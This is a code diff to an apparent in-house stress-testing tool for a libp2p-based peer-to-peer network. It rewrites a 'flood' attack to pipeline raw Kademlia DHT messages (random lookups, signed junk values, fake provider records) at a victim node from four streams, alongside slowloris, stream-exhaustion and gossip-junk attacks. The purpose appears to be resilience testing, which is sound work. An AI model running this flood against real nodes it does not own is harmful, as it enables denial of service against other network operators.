@@ -8,7 +8,8 @@ prints one JSON line of counts every second. Attacks:
 - ``slowloris``: as many activation streams as the victim lets it open, each sending one byte
   of a frame per second; and raw TCP connections sending the multistream header a byte a second.
 - ``flood``: junk on the victim's gossip topics (block claims of MODEL_ID, receipt gossip) as fast
-  as gossipsub takes it, and a stream of DHT values, provider records and lookups to the victim.
+  as gossipsub takes it, and DHT requests straight at the victim, pipelined (lookups, signed
+  values, provider records), from 4 streams at once.
 - ``streams``: thousands of streams, opened as fast as the victim answers and never closed.
 - ``spin``: the control: connected, then only burning CPU (no traffic), as busy as the others.
 
@@ -142,28 +143,52 @@ async def flood(node, target, host, port, model):
             await trio.sleep(0)
 
     async def dht():
-        await node.dht.add_peer(target.peer_id)
+        """DHT requests straight at the victim, pipelined on one stream after another: lookups
+        for random keys, signed values and provider records under junk names."""
+        from libp2p.kad_dht.pb.kademlia_pb2 import Message
+        from libp2p.utils.varint import encode_varint_prefixed
+
+        from shardnet.transport import records
+
         i = 0
         while True:
-            i += 1
-            op = i % 3
-            if op == 0:
-                await attempt(node.dht.put(f"junk-{i}", os.urandom(512)))
-            elif op == 1:
-                await attempt(node.dht.provide(f"junk-{i}"))
-            else:
-                await attempt(node.dht.find_peer(random_peer_id()))
+            batch = []
+            for _ in range(32):
+                i += 1
+                m = Message()
+                kind = i % 4
+                if kind == 0:
+                    m.type = Message.MessageType.FIND_NODE
+                    m.key = os.urandom(32)
+                elif kind == 1:
+                    m.type = Message.MessageType.GET_PROVIDERS
+                    m.key = os.urandom(34)
+                elif kind == 2:
+                    name = f"junk-{i}"
+                    key = records.record_key(node.peer_id, name)
+                    m.type = Message.MessageType.PUT_VALUE
+                    m.key = key.encode()
+                    m.record.key = m.key
+                    m.record.value = records.encode(node.key_pair, name, os.urandom(512))
+                else:
+                    m.type = Message.MessageType.ADD_PROVIDER
+                    m.key = os.urandom(34)
+                    p = m.providerPeers.add()
+                    p.id = node.peer_id.to_bytes()
+                batch.append(encode_varint_prefixed(m.SerializeToString()))
+            try:
+                s = await open_stream(node, target, "/ipfs/kad/1.0.0")
+                await s.write(b"".join(batch), timeout=5)
+                while await s.read_some(65536, timeout=5):
+                    counts["ok"] += 1
+            except Exception:
+                counts["refused"] += 1
+                await trio.sleep(0.001)
 
     async with trio.open_nursery() as n:
         n.start_soon(gossip)
         for _ in range(4):
             n.start_soon(dht)
-
-
-def random_peer_id():
-    from libp2p.peer.id import ID
-
-    return ID(b"\x00\x24\x08\x01\x12\x20" + os.urandom(32))
 
 
 # -- streams -----------------------------------------------------------------------------------
